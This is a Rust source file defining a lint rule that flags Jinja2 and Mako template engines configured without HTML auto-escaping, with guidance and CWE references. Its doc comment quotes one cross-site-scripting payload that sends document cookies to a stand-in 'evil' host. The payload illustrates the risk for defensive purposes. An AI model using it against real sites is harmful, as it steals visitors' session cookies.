use crate::call_pattern::{Arg, CallPattern, Cond};
use crate::declare_rule;
use crate::rule::Category;
use vigil_knowledge::templates::{
    JINJA_ENVIRONMENTS, JINJA_TEMPLATES, MAKO_LOOKUPS, MAKO_TEMPLATES,
};
use vigil_report::{Confidence, Severity};

const MAKO_MESSAGE: &str = "`{callee}` renders Mako templates, which do not escape values unless `default_filters` includes `h`";

const AUTOESCAPE: Arg = Arg::kw("autoescape");

declare_rule! {
    /// ## What it does
    /// Flags template engines set up without HTML auto-escaping: a Jinja2
    /// `Environment` (or `SandboxedEnvironment`) without `autoescape` or with
    /// `autoescape=False`, a `jinja2.Template(...)` built directly without
    /// it, and Mako `Template` / `TemplateLookup` without `default_filters`
    /// (Mako does not escape by default). `autoescape=True`,
    /// `autoescape=select_autoescape(...)` and other computed values are
    /// accepted.
    ///
    /// ## Why is this bad?
    /// Without auto-escaping, every `{{ value }}` is pasted into the HTML as
    /// is: a user name such as `<script>fetch('//evil/?c='+document.cookie)
    /// </script>` runs in the browser of everyone who views the page
    /// (cross-site scripting). Escaping by hand with `|e` misses a spot
    /// sooner or later. (A template that renders no HTML — an e-mail in plain
    /// text, a config file — can suppress the finding.) Templates whose
    /// source comes from outside are a different, worse problem: template
    /// injection, found by the dataflow rule `template-injection`.
    ///
    /// ## Example
    /// ```python
    /// env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// env = jinja2.Environment(
    ///     loader=jinja2.FileSystemLoader("templates"),
    ///     autoescape=jinja2.select_autoescape(),
    /// )
    /// lookup = TemplateLookup(directories=["templates"], default_filters=["h"])
    /// ```
    ///
    /// ## References
    /// - CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')
    /// - CWE-116: Improper Encoding or Escaping of Output
    pub static RULE = {
        name: "template-autoescape-disabled",
        category: Category::Web,
        cwe: &[79, 116],
        severity: Severity::High,
        confidence: Confidence::Medium,
        bandit: &["B701", "B702"],
        ruff: &["S701", "S702"],
        help: "Turn auto-escaping on: `autoescape=select_autoescape()` (or `True`) for Jinja2, `default_filters=[\"h\"]` for Mako.",
        calls: &[
            CallPattern::new(
                JINJA_ENVIRONMENTS,
                &[Cond::Missing(AUTOESCAPE)],
                "`{callee}` is created without `autoescape`, which Jinja2 leaves off: values rendered into HTML are not escaped",
            ),
            CallPattern::new(
                JINJA_ENVIRONMENTS,
                &[Cond::LiteralFalse(AUTOESCAPE)],
                "`{callee}` is created with auto-escaping off: values rendered into HTML are not escaped",
            ),
            CallPattern::new(
                JINJA_TEMPLATES,
                &[Cond::Missing(AUTOESCAPE)],
                "`{callee}` builds a template without `autoescape`, which Jinja2 leaves off: values rendered into HTML are not escaped",
            )
            .severity(Severity::Medium)
            .confidence(Confidence::Low),
            CallPattern::new(
                JINJA_TEMPLATES,
                &[Cond::LiteralFalse(AUTOESCAPE)],
                "`{callee}` builds a template with auto-escaping off: values rendered into HTML are not escaped",
            )
            .severity(Severity::Medium),
            CallPattern::new(MAKO_TEMPLATES, &[Cond::Missing(Arg::kw("default_filters"))], MAKO_MESSAGE)
                .severity(Severity::Medium),
            CallPattern::new(MAKO_LOOKUPS, &[Cond::Missing(Arg::kw("default_filters"))], MAKO_MESSAGE)
                .severity(Severity::Medium),
        ],
    };
}
